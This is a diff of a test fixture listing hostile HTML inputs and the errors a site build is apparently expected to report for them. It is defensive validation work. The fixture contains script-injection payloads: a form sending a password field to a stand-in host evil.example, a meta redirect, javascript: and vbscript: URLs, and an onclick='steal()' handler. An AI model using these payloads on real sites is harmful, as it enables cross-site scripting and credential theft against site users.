@@ -41,10 +41,13 @@ HOSTILE_BODY = [
     ('<a href="vbscript:msgbox(1)">A vbscript link</a>', ["a vbscript: URL in href= on <a>"]),
     ('<object data="movie.swf"></object>', ["an <object> element"]),
     ('<embed src="movie.swf">', ["an <embed> element"]),
-    ('<form action="https://evil.example/collect"><input name="password"></form>',
-     ["a <form> element", "an <input> element"]),
+    ('<form action="https://evil.example/collect"><input name="password"></form>', ["a <form> element"]),
     ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ["a <meta> element"]),
-    ("<svg><script>window.__pwned = 2</script></svg>", ["a <svg> element", "a <script> element"]),
+    ("<svg><script>window.__pwned = 2</script></svg>", ["a <script> element"]),
+    ('<svg><a href="#x"><animate attributeName="href" to="javascript:alert(2)"/><text>Tap</text></a></svg>',
+     ["a javascript: URL in to= on <animate>"]),
+    # Harmless markup the sanitiser drops from feeds but that runs nothing: not an error on the site.
+    ('<svg viewBox="0 0 4 4"><path d="M0 0h4v4z"/></svg> <input type="checkbox" disabled> <style>p {}</style>', []),
     # The build names the line the handler is on: the attribute list's own line.
     ('A paragraph with an attribute list.\n{: onclick="steal()" }', ["an event handler onclick= on <p>"]),
 ]
